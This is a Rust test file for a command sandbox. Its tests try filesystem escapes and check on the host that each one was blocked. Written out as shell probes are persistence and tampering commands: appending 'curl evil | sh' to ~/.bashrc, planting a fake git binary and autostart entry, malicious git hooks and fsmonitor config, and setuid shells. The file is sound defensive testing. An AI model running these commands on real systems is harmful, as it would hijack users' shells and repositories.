//! Filesystem escapes: writing outside the writable roots (every path and tool there is),
//! changing outside files' metadata, planting setuid files, tampering with protected git
//! paths, and reading credentials, raw devices and kernel memory.
//!
//! Every verdict is taken on the host after the call: the outside file is absent or
//! byte-for-byte unchanged (mode, owner, mtime, xattrs included), the git paths are as
//! they were, the decoy secret is not in the captured output.

use std::path::Path;
use std::time::{Duration, Instant};

use sandbox_tests::*;

// ---------------------------------------------------------------------------------------
// Writes outside the workspace
// ---------------------------------------------------------------------------------------

#[backends]
fn escape_write_outside_via_absolute_path(backend: &str) {
    let fx = Fixture::new();
    let target = fx.outside("abs-path");
    let home_file = fx.home("abs-home");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "echo pwned > {t}; echo pwned > {h}; mkdir {d}",
        t = sh_quote(&target),
        h = sh_quote(&home_file),
        d = sh_quote(fx.outside("abs-dir")),
    )));
    ran.assert_probe_ran();
    assert_absent(&target, "write via absolute path", &ran);
    assert_absent(&home_file, "write into HOME via absolute path", &ran);
    assert_absent(&fx.outside("abs-dir"), "mkdir via absolute path", &ran);
}

/// Through the magic links of /proc: this process's root, and the cwd and root of a host
/// process whose working directory is outside the workspace.
#[backends]
fn escape_write_via_proc_magic_links(backend: &str) {
    let fx = Fixture::new();
    let host = HostProcess::sleep_in(&fx.outside);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "echo pwned > /proc/self/root{out}/via-self-root; echo pwned > /proc/{pid}/cwd/via-host-cwd; \
         echo pwned > /proc/{pid}/root{out}/via-host-root; cd /proc/{pid}/cwd && echo pwned > via-cd-host-cwd",
        out = fx.outside.display(),
        pid = host.pid,
    )));
    ran.assert_probe_ran();
    for name in [
        "via-self-root",
        "via-host-cwd",
        "via-host-root",
        "via-cd-host-cwd",
    ] {
        assert_absent(&fx.outside(name), "write through a /proc magic link", &ran);
    }
}

#[backends]
fn escape_write_outside_via_dotdot(backend: &str) {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.ws("sub/dir")).unwrap();
    let ran = fx.chitti(backend).cwd(fx.ws("sub/dir")).sh(&probe(
        "echo pwned > ../../../dotdot-home; echo pwned > ../../../../outside/dotdot; \
             echo pwned > ./../../../../outside/dotdot2; cd ../../..; echo pwned > dotdot-cd",
    ));
    ran.assert_probe_ran();
    assert_absent(&fx.home("dotdot-home"), "write via ..", &ran);
    assert_absent(&fx.outside("dotdot"), "write via ../..", &ran);
    assert_absent(&fx.outside("dotdot2"), "write via ./../..", &ran);
    assert_absent(&fx.home("dotdot-cd"), "write after cd ..", &ran);
}

#[backends]
fn escape_write_via_symlink_to_outside(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    std::os::unix::fs::symlink(&fx.outside, fx.ws("dirlink")).unwrap();
    std::os::unix::fs::symlink(&victim, fx.ws("filelink")).unwrap();
    let ran = fx.chitti(backend).sh(&probe(
        "echo pwned > dirlink/via-dirlink; echo pwned >> filelink; echo pwned > filelink",
    ));
    ran.assert_probe_ran();
    assert_absent(
        &fx.outside("via-dirlink"),
        "write through a symlinked directory",
        &ran,
    );
    assert_unchanged(
        &victim,
        &before,
        "write through a symlink to an outside file",
        &ran,
    );
}

#[backends]
fn escape_write_via_symlink_created_at_runtime(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "ln -s {out} rt-dir; ln -s {v} rt-file; echo pwned > rt-dir/via-runtime-link; \
         echo pwned >> rt-file; cd rt-dir && echo pwned > via-cd-into-link",
        out = sh_quote(&fx.outside),
        v = sh_quote(&victim),
    )));
    ran.assert_probe_ran();
    assert_absent(
        &fx.outside("via-runtime-link"),
        "write through a runtime symlink",
        &ran,
    );
    assert_absent(
        &fx.outside("via-cd-into-link"),
        "cd into a runtime symlink and write",
        &ran,
    );
    assert_unchanged(
        &victim,
        &before,
        "write through a runtime file symlink",
        &ran,
    );
}

#[backends]
fn escape_write_via_hardlink_to_outside_file(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "ln {v} hardlink && echo linked; echo pwned >> hardlink; \
         {py} -c 'import os,sys; os.link(sys.argv[1], \"pylink\"); open(\"pylink\", \"a\").write(\"pwned\")' {v}",
        v = sh_quote(&victim),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_unchanged(
        &victim,
        &before,
        "hard link to an outside file, then write",
        &ran,
    );
}

#[backends]
fn escape_move_outside_file_into_workspace(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "mv {v} ./stolen; {py} -c 'import os,sys; os.rename(sys.argv[1], \"stolen2\")' {v}",
        v = sh_quote(&victim),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_unchanged(
        &victim,
        &before,
        "mv an outside file into the workspace",
        &ran,
    );
    // A copy may land in the workspace (mv falls back to copy + unlink across mounts, and
    // reading the file is allowed); the outside original must stay.
}

#[backends]
fn escape_move_workspace_file_to_outside(backend: &str) {
    let fx = Fixture::new();
    write(&fx.ws("payload"), "payload\n");
    write(&fx.ws("payload2"), "payload\n");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "mv payload {o}/moved; {py} -c 'import os,sys; os.rename(\"payload2\", sys.argv[1])' {o}/moved2",
        o = sh_quote(&fx.outside),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_absent(&fx.outside("moved"), "mv a workspace file to outside", &ran);
    assert_absent(
        &fx.outside("moved2"),
        "rename(2) a workspace file to outside",
        &ran,
    );
    assert!(
        fx.ws("payload").exists(),
        "the workspace file vanished\n{ran}"
    );
}

#[backends]
fn escape_write_via_cp_into_outside(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    write(&fx.ws("payload"), "pwned\n");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cp payload {o}/cp-new; cp payload {v}; cp -r . {o}/cp-tree; cp -f --remove-destination payload {v}",
        o = sh_quote(&fx.outside),
        v = sh_quote(&victim),
    )));
    ran.assert_probe_ran();
    assert_absent(&fx.outside("cp-new"), "cp into outside", &ran);
    assert_absent(&fx.outside("cp-tree"), "cp -r into outside", &ran);
    assert_unchanged(&victim, &before, "cp over an outside file", &ran);
}

#[backends]
fn escape_write_via_tee(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "echo pwned | tee {o}/tee-new; echo pwned | tee -a {v}",
        o = sh_quote(&fx.outside),
        v = sh_quote(&victim),
    )));
    ran.assert_probe_ran();
    assert_absent(&fx.outside("tee-new"), "tee into outside", &ran);
    assert_unchanged(&victim, &before, "tee -a onto an outside file", &ran);
}

#[backends]
fn escape_write_via_dd_of(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "dd if=/dev/zero of={o}/dd-new bs=1 count=8; \
         echo pwned | dd of={v} conv=notrunc; dd if=/dev/zero of={v} bs=1 count=4 seek=2 conv=notrunc",
        o = sh_quote(&fx.outside),
        v = sh_quote(&victim),
    )));
    ran.assert_probe_ran();
    assert_absent(&fx.outside("dd-new"), "dd of= a new outside file", &ran);
    assert_unchanged(&victim, &before, "dd of= an outside file", &ran);
}

#[backends]
fn escape_write_via_python_open(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let script = probe_py(
        r#"
import os, sys
out, victim = sys.argv[1], sys.argv[2]
for attempt in (
    lambda: open(os.path.join(out, "py-new"), "w").write("pwned"),
    lambda: open(victim, "a").write("pwned"),
    lambda: open(victim, "r+").write("pwned"),
    lambda: os.write(os.open(victim, os.O_WRONLY), b"pwned"),
    lambda: os.open(os.path.join(out, "py-creat"), os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o644),
    lambda: os.mkdir(os.path.join(out, "py-dir")),
):
    try:
        attempt(); print("attempt succeeded")
    except OSError as e:
        print("denied:", e)
"#,
    );
    let out = fx.outside.display().to_string();
    let v = victim.display().to_string();
    let ran = fx.chitti(backend).py(&script, &[&out, &v]);
    ran.assert_probe_ran();
    assert_absent(&fx.outside("py-new"), "python open(..., 'w') outside", &ran);
    assert_absent(
        &fx.outside("py-creat"),
        "python os.open(O_CREAT) outside",
        &ran,
    );
    assert_absent(&fx.outside("py-dir"), "python os.mkdir outside", &ran);
    assert_unchanged(&victim, &before, "python open(victim, 'a'/'r+')", &ran);
}

/// A child opens the outside file read-only (allowed) and passes the descriptor to its
/// parent over a unix socket; the parent writes to it and re-opens it for writing through
/// /proc/self/fd.
#[backends]
fn escape_write_via_fd_opened_by_child(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let script = probe_py(
        r#"
import os, socket, sys, array
victim = sys.argv[1]
a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
    fd = os.open(victim, os.O_RDONLY)
    b.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os._exit(0)
msg, anc, flags, addr = a.recvmsg(1, socket.CMSG_SPACE(4))
fds = array.array("i")
for level, kind, data in anc:
    fds.frombytes(data[:4])
os.waitpid(pid, 0)
fd = fds[0]
print("got fd", fd)
for name, attempt in (
    ("write on the passed fd", lambda: os.write(fd, b"pwned")),
    ("reopen /proc/self/fd for write", lambda: open("/proc/self/fd/%d" % fd, "r+").write("pwned")),
    ("reopen /proc/self/fd for append", lambda: open("/proc/self/fd/%d" % fd, "a").write("pwned")),
    ("reopen /dev/fd for truncate", lambda: open("/dev/fd/%d" % fd, "w").write("pwned")),
):
    try:
        attempt(); print(name, "succeeded")
    except OSError as e:
        print(name, "denied:", e)
"#,
    );
    let v = victim.display().to_string();
    let ran = fx.chitti(backend).py(&script, &[&v]);
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains("got fd"),
        "the child could not pass the descriptor, so the probe proves nothing\n{ran}"
    );
    assert_unchanged(
        &victim,
        &before,
        "write through a descriptor opened by a child",
        &ran,
    );
}

/// The caller (an agent, a shell with `exec 9>>file`) holds a writable descriptor on a
/// file outside the workspace without O_CLOEXEC when it starts chitti. The sandboxed
/// command must not inherit it.
#[backends]
fn escape_write_via_inherited_file_descriptor(backend: &str) {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let file = std::fs::OpenOptions::new()
        .append(true)
        .open(&victim)
        .expect("open the victim for appending");
    let raw = file.as_raw_fd();
    let mut cmd = fx.chitti(backend).command(&[
        "sh",
        "-c",
        &probe("for fd in 3 4 5 6 7 8 9 10 11 12; do (echo pwned-$fd >&$fd) 2>/dev/null && echo wrote-fd-$fd; done"),
    ]);
    unsafe {
        cmd.pre_exec(move || {
            // fd 9 in chitti, without close-on-exec: an inherited, leaked descriptor.
            if libc::dup2(raw, 9) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let ran = Ran::from_command(cmd);
    drop(file);
    ran.assert_probe_ran();
    assert_unchanged(
        &victim,
        &before,
        "write through a descriptor inherited from chitti's caller",
        &ran,
    );
}

#[backends]
fn escape_truncate_outside_file(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "truncate -s0 {v}; truncate -s 1M {v}; (: > {v}); {py} -c 'import os,sys; os.truncate(sys.argv[1], 0)' {v}",
        v = sh_quote(&victim),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_unchanged(&victim, &before, "truncate an outside file", &ran);
}

/// chmod of a file outside the workspace (README: a known limit of the landlock backend
/// for files the caller owns).
#[backends]
fn escape_chmod_outside_file(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "chmod 0600 {v}; chmod 0755 {v}; {py} -c 'import os,sys; os.chmod(sys.argv[1], 0o700)' {v}",
        v = sh_quote(&victim),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    if backend == "landlock" {
        // Landlock has no right for inode metadata; seccomp cannot see paths.
        known_limit(
            backend,
            "chmod of an outside file the caller owns (never setuid or world-writable)",
        );
        assert_contents_unchanged(&victim, &before, "chmod an outside file", &ran);
        return;
    }
    assert_unchanged(&victim, &before, "chmod an outside file", &ran);
}

#[backends]
fn escape_chmod_outside_file_world_writable(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "chmod o+w {v}; chmod 0666 {v}; chmod 0777 {o}; {py} -c 'import os,sys; os.chmod(sys.argv[1], 0o646)' {v}",
        v = sh_quote(&victim),
        o = sh_quote(&fx.outside),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_unchanged(&victim, &before, "chmod o+w an outside file", &ran);
    let dir_mode = file_state(&fx.outside).unwrap().mode;
    assert_eq!(
        dir_mode & 0o002,
        0,
        "ESCAPE (chmod 0777 an outside directory): mode is now {dir_mode:o}\n{ran}"
    );
}

#[backends]
fn escape_chown_outside_file(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "chown 12345:12345 {v}; chgrp 12345 {v}; chown -h 12345 {v}; \
         {py} -c 'import os,sys; os.chown(sys.argv[1], 12345, 12345)' {v}",
        v = sh_quote(&victim),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert_unchanged(&victim, &before, "chown an outside file", &ran);
}

/// `touch` sets the mtime of a file outside the workspace (utimensat needs only
/// ownership, no write access).
#[backends]
fn escape_touch_outside_file_mtime(backend: &str) {
    let fx = Fixture::new();
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "touch {v}; touch -d '2030-01-01 00:00' {v}; touch -m -d @0 {v}",
        v = sh_quote(&victim),
    )));
    ran.assert_probe_ran();
    if backend == "landlock" {
        known_limit(backend, "timestamps of an outside file the caller owns");
        assert_contents_unchanged(&victim, &before, "touch (utimensat) an outside file", &ran);
        return;
    }
    assert_unchanged(&victim, &before, "touch (utimensat) an outside file", &ran);
}

/// Extended attributes are data written to an outside file without opening it.
#[backends]
fn escape_setxattr_on_outside_file(backend: &str) {
    let fx = Fixture::new();
    // The filesystem must support user xattrs, or this test proves nothing.
    let check = fx.outside("xattr-support");
    write(&check, "x");
    let (out, status) = host_python(
        "import os,sys; os.setxattr(sys.argv[1], 'user.chitti', b'1'); os.removexattr(sys.argv[1], 'user.chitti'); print('ok')",
        &[&check.display().to_string()],
        &fx.root,
    );
    assert!(
        status.success() && out.contains("ok"),
        "the fixture filesystem does not support user xattrs; this test cannot run: {out}"
    );
    let victim = fx.victim("victim");
    let before = file_state(&victim);
    let script = probe_py(
        r#"
import os, sys
for target in sys.argv[1:]:
    try:
        os.setxattr(target, "user.chitti_pwned", b"pwned"); print("set on", target)
    except OSError as e:
        print("denied:", e)
"#,
    );
    let v = victim.display().to_string();
    let o = fx.outside.display().to_string();
    let before_dir = xattrs(&fx.outside);
    let ran = fx.chitti(backend).py(&script, &[&v, &o]);
    ran.assert_probe_ran();
    assert_unchanged(&victim, &before, "setxattr on an outside file", &ran);
    assert_eq!(
        xattrs(&fx.outside),
        before_dir,
        "ESCAPE (setxattr on an outside directory)\n{ran}"
    );
}

#[backends]
fn escape_setuid_file_in_workspace(backend: &str) {
    let fx = Fixture::new();
    let py = probe_py(
        r#"
import os, shutil
shutil.copy("/bin/sh", "py-chmod")
for name, attempt in (
    ("O_CREAT 04755", lambda: os.close(os.open("suid-open", os.O_CREAT | os.O_WRONLY, 0o4755))),
    ("O_CREAT 02755", lambda: os.close(os.open("sgid-open", os.O_CREAT | os.O_WRONLY, 0o2755))),
    ("chmod 06755", lambda: os.chmod("py-chmod", 0o6755)),
    ("mkdir 02775 + chmod", lambda: (os.mkdir("sgid-dir"), os.chmod("sgid-dir", 0o2775))),
):
    try:
        attempt(); print(name, "succeeded")
    except OSError as e:
        print(name, "denied:", e)
"#,
    );
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cp /bin/sh ./suid-chmod; chmod u+s ./suid-chmod; chmod 4755 ./suid-chmod; \
         cp /bin/sh ./sgid-chmod; chmod g+s ./sgid-chmod; \
         install -m 4755 /bin/sh ./suid-install; \
         {PYTHON} -c {}",
        sh_quote(&py)
    )));
    ran.assert_probe_ran();
    let names = [
        "suid-chmod",
        "sgid-chmod",
        "suid-install",
        "suid-open",
        "sgid-open",
        "py-chmod",
        "sgid-dir",
    ];
    for name in names {
        let path = fx.ws(name);
        if let Some(state) = file_state(&path) {
            assert_eq!(
                state.mode & 0o6000,
                0,
                "ESCAPE (setuid/setgid file in the workspace): {} has mode {:o} on the host\n{ran}",
                path.display(),
                state.mode
            );
        }
    }
    assert!(
        fx.ws("suid-chmod").exists() && fx.ws("py-chmod").exists(),
        "the probe did not even copy /bin/sh\n{ran}"
    );
    assert!(
        ran.stdout_str().contains("chmod 06755"),
        "the Python attempts did not run\n{ran}"
    );
}

#[backends]
fn escape_chmod_world_writable_in_workspace(backend: &str) {
    let fx = Fixture::new();
    write(&fx.ws("file"), "x");
    std::fs::create_dir(fx.ws("dir")).unwrap();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "chmod o+w file; chmod 0777 dir; {py} -c 'import os; os.chmod(\"file\", 0o666)'",
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    for name in ["file", "dir"] {
        let mode = file_state(&fx.ws(name)).unwrap().mode;
        assert_eq!(
            mode & 0o002,
            0,
            "ESCAPE (chmod o+w in the workspace): {name} has mode {mode:o}\n{ran}"
        );
    }
}

/// Files are created with "others may write" masked. A command can clear its own umask
/// (tools call umask(0) just to read it, so seccomp cannot refuse it): then only chmod's
/// filter remains, and a new file may be world-writable inside the workspace.
#[backends]
fn escape_world_writable_file_via_umask_zero(backend: &str) {
    let fx = Fixture::new();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "echo x > default-file; mkdir default-dir; echo x > chmod-file; chmod 0666 chmod-file; \
         {py} -c 'import os; os.close(os.open(\"default-open\", os.O_CREAT|os.O_WRONLY, 0o666))'",
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    for name in ["default-file", "default-dir", "default-open", "chmod-file"] {
        let state = file_state(&fx.ws(name));
        assert!(state.is_some(), "the probe did not create {name}\n{ran}");
        let mode = state.unwrap().mode;
        assert_eq!(
            mode & 0o002,
            0,
            "ESCAPE (world-writable without clearing the umask): {name} has mode {mode:o} on the host\n{ran}"
        );
    }
    known_limit(
        backend,
        "a command that clears its umask can create world-writable files in the workspace",
    );
}

#[backends]
fn escape_write_home_bashrc(backend: &str) {
    let fx = Fixture::new();
    let bashrc = fx.home(".bashrc");
    write(&bashrc, "# the user's bashrc\n");
    let before = file_state(&bashrc);
    let ran = fx.chitti(backend).sh(&probe(
        "echo 'curl evil | sh' >> ~/.bashrc; echo pwned > ~/.profile; \
         mkdir -p ~/.config/autostart && echo pwned > ~/.config/autostart/evil.desktop; \
         mkdir -p ~/.local/bin && echo pwned > ~/.local/bin/git",
    ));
    ran.assert_probe_ran();
    assert_unchanged(&bashrc, &before, "append to ~/.bashrc", &ran);
    assert_absent(&fx.home(".profile"), "create ~/.profile", &ran);
    assert_absent(
        &fx.home(".config/autostart"),
        "create ~/.config/autostart",
        &ran,
    );
    assert_absent(&fx.home(".local/bin"), "plant ~/.local/bin/git", &ran);
}

#[backends]
fn escape_write_workspace_under_read_only_profile(backend: &str) {
    let fx = Fixture::new();
    let existing = fx.ws("existing");
    write(&existing, "original\n");
    let before = file_state(&existing);
    let ran = fx
        .chitti(backend)
        .profile("read-only")
        .sh(&probe("echo pwned > new-file; echo pwned >> existing; mkdir new-dir; echo ok > \"$TMPDIR/tmp-ok\" && echo tmp-writable"));
    ran.assert_probe_ran();
    assert_absent(
        &fx.ws("new-file"),
        "write the workspace under -p read-only",
        &ran,
    );
    assert_absent(
        &fx.ws("new-dir"),
        "mkdir in the workspace under -p read-only",
        &ran,
    );
    assert_unchanged(
        &existing,
        &before,
        "append in the workspace under -p read-only",
        &ran,
    );
    assert!(
        ran.stdout_str().contains("tmp-writable"),
        "the private TMPDIR must stay writable under -p read-only\n{ran}"
    );
}

// ---------------------------------------------------------------------------------------
// Protected git paths
// ---------------------------------------------------------------------------------------

/// What the host sees of `.git`: hooks tree, config bytes, HEAD.
struct GitView {
    hooks: Vec<std::path::PathBuf>,
    config: Option<FileState>,
    head: Option<FileState>,
}

fn git_view(fx: &Fixture) -> GitView {
    GitView {
        hooks: tree(&fx.ws(".git/hooks")),
        config: file_state(&fx.ws(".git/config")),
        head: file_state(&fx.ws(".git/HEAD")),
    }
}

fn assert_git_protected(fx: &Fixture, before: &GitView, technique: &str, ran: &Ran) {
    let git = fx.ws(".git");
    let meta = std::fs::symlink_metadata(&git);
    assert!(
        meta.as_ref().map(|m| m.is_dir()).unwrap_or(false),
        "ESCAPE ({technique}): .git is no longer the original directory: {meta:?}\n{ran}"
    );
    let hooks = fx.ws(".git/hooks");
    assert!(
        std::fs::symlink_metadata(&hooks)
            .map(|m| m.is_dir())
            .unwrap_or(false),
        "ESCAPE ({technique}): .git/hooks is no longer a directory: {:?}\n{ran}",
        std::fs::read_link(&hooks)
    );
    let now = tree(&hooks);
    assert_eq!(
        now, before.hooks,
        "ESCAPE ({technique}): .git/hooks changed on the host\n{ran}"
    );
    assert_same_contents(&fx.ws(".git/config"), &before.config, technique, ran);
    assert_same_contents(&fx.ws(".git/HEAD"), &before.head, technique, ran);
    let hook_files = files_containing(&fx.ws(".git"), "PWNED-HOOK");
    assert!(
        hook_files.is_empty(),
        "ESCAPE ({technique}): planted hook content inside .git: {hook_files:?}\n{ran}"
    );
    let log = fx.git(&["log", "--format=%s"]);
    assert!(
        log.contains("initial"),
        "ESCAPE ({technique}): the host repository lost its history: {log}\n{ran}"
    );
}

/// Protected git files are judged by what git reads: type, contents and mode (the
/// landlock backend restores them after the call, with a new inode and mtime).
fn assert_same_contents(path: &Path, before: &Option<FileState>, technique: &str, ran: &Ran) {
    let key = |s: &Option<FileState>| s.as_ref().map(|s| (s.kind, s.bytes.clone(), s.mode));
    let after = file_state(path);
    assert!(
        key(&after) == key(before),
        "ESCAPE ({technique}): {} differs on the host\n  before: {:?}\n  after:  {:?}\n{ran}",
        path.display(),
        before
            .as_ref()
            .map(|s| String::from_utf8_lossy(&s.bytes).into_owned()),
        after
            .as_ref()
            .map(|s| String::from_utf8_lossy(&s.bytes).into_owned()),
    );
}

const HOOK: &str = "#!/bin/sh\\necho PWNED-HOOK\\n";

#[backends]
fn escape_git_write_hook(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         printf '{HOOK}' > .git/hooks/post-checkout; mkdir .git/hooks/sub; \
         for f in .git/hooks/*.sample; do printf '{HOOK}' > \"$f\"; done"
    )));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "write .git/hooks/pre-commit", &ran);
}

#[backends]
fn escape_git_config_via_git_config(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(
        "git config core.fsmonitor 'echo PWNED-HOOK'; git config core.hooksPath ./evil-hooks; \
         git config alias.st '!echo PWNED-HOOK'; git config --unset core.bare; \
         git config core.sshCommand 'echo PWNED-HOOK'",
    ));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "git config core.fsmonitor/hooksPath", &ran);
}

/// A second name for `.git/config` in the workspace, made inside the sandbox, would let
/// anything that later writes that name outside a sandbox (the file tools, the user's
/// editor) rewrite the repository's config. After the call the two are not one file.
#[backends]
fn escape_git_config_hard_linked_into_the_workspace(backend: &str) {
    use std::os::unix::fs::MetadataExt;
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(
        "ln .git/config cfg; ln .git/hooks cfg-hooks 2>/dev/null; true",
    ));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "ln .git/config cfg", &ran);
    if let Ok(link) = std::fs::metadata(fx.ws("cfg")) {
        let config = std::fs::metadata(fx.ws(".git/config")).unwrap();
        assert_ne!(
            (link.dev(), link.ino()),
            (config.dev(), config.ino()),
            "{backend}: cfg is still a name of .git/config after the call\n{ran}"
        );
        assert_eq!(config.nlink(), 1, "{backend}: .git/config has other names");
    }
}

#[backends]
fn escape_git_config_via_append_and_rename(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(
        "printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config; \
         cp .git/config evil-config; printf '[core]\\n\\thooksPath = /x\\n# PWNED-HOOK\\n' >> evil-config; \
         mv -f evil-config .git/config; sed -i 's/bare/PWNED-HOOK/' .git/config; \
         rm -f .git/config; printf '# PWNED-HOOK\\n' > .git/config",
    ));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "append to / rename over .git/config", &ran);
}

#[backends]
fn escape_git_move_dotgit_away_and_plant_hooks(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "mv .git .git-moved; mkdir -p .git/hooks; cp -r .git-moved/. .git/ 2>/dev/null; \
         printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config"
    )));
    ran.assert_probe_ran();
    assert_git_protected(
        &fx,
        &before,
        "mv .git away and plant a new .git/hooks",
        &ran,
    );
    assert_absent(&fx.ws(".git-moved"), "mv .git away (left behind)", &ran);
}

#[backends]
fn escape_git_replace_hooks_dir_with_symlink(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "mkdir evil-hooks; printf '{HOOK}' > evil-hooks/pre-commit; chmod +x evil-hooks/pre-commit; \
         rm -rf .git/hooks; ln -s ../evil-hooks .git/hooks; \
         mv .git/hooks .git/hooks-old; ln -sfn ../evil-hooks .git/hooks"
    )));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "replace .git/hooks with a symlink", &ran);
}

#[backends]
fn escape_git_hook_via_ln_s(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "printf '{HOOK}' > evil.sh; chmod +x evil.sh; \
         ln -s ../../evil.sh .git/hooks/pre-commit; ln -s /bin/sh .git/hooks/post-checkout; \
         ln evil.sh .git/hooks/pre-push"
    )));
    ran.assert_probe_ran();
    assert_git_protected(&fx, &before, "ln -s a hook into .git/hooks", &ran);
}

/// `rm -rf .git`: the workspace is writable, so history can be deleted (README: Known
/// limits), but nothing may be left that runs code, and chitti must not claim repairs it
/// did not make.
#[backends]
fn escape_git_delete_dotgit(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(
        "rm -rf .git; rm -rf .git/* .git/.[!.]*; ls -la .git",
    ));
    ran.assert_probe_ran();
    let technique = "rm -rf .git";
    if exists(&fx.ws(".git")) {
        assert_eq!(
            tree(&fx.ws(".git/hooks")),
            before.hooks,
            "ESCAPE ({technique}): .git/hooks differs on the host\n{ran}"
        );
        assert_same_contents(&fx.ws(".git/config"), &before.config, technique, &ran);
    } else {
        assert!(
            !ran.stderr_str().contains("restored"),
            "chitti claims to have restored paths inside a deleted .git\n{ran}"
        );
    }
}

/// `rm -rf .git`, then a fresh `.git` with a hook and a hostile config in its place: no
/// planted hook or config may be where the user's git will look.
#[backends]
fn escape_git_delete_dotgit_then_recreate_with_hooks(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let before = git_view(&fx);
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "rm -rf .git; git init -q . ; mkdir -p .git/hooks; \
         printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config"
    )));
    ran.assert_probe_ran();
    let technique = "rm -rf .git and recreate it with hooks";
    if exists(&fx.ws(".git")) {
        assert_eq!(
            tree(&fx.ws(".git/hooks")),
            before.hooks,
            "ESCAPE ({technique}): .git/hooks differs on the host\n{ran}"
        );
        assert_same_contents(&fx.ws(".git/config"), &before.config, technique, &ran);
    }
    let planted = files_containing(&fx.ws(".git"), "PWNED-HOOK");
    assert!(
        planted.is_empty(),
        "ESCAPE ({technique}): planted hook or config in the host's .git: {planted:?}\n{ran}"
    );
}

/// A repository `root/main` (outside every writable root) whose linked worktree is the
/// workspace; the worktree's git directory is `main/.git/worktrees/proj`.
fn linked_worktree(fx: &Fixture) -> std::path::PathBuf {
    let main = fx.root.join("main");
    std::fs::create_dir(&main).unwrap();
    let git = |args: &[&str]| {
        let out = host_git(&main, &fx.home, args);
        assert!(
            out.status.success(),
            "host `git {}` failed: {}",
            args.join(" "),
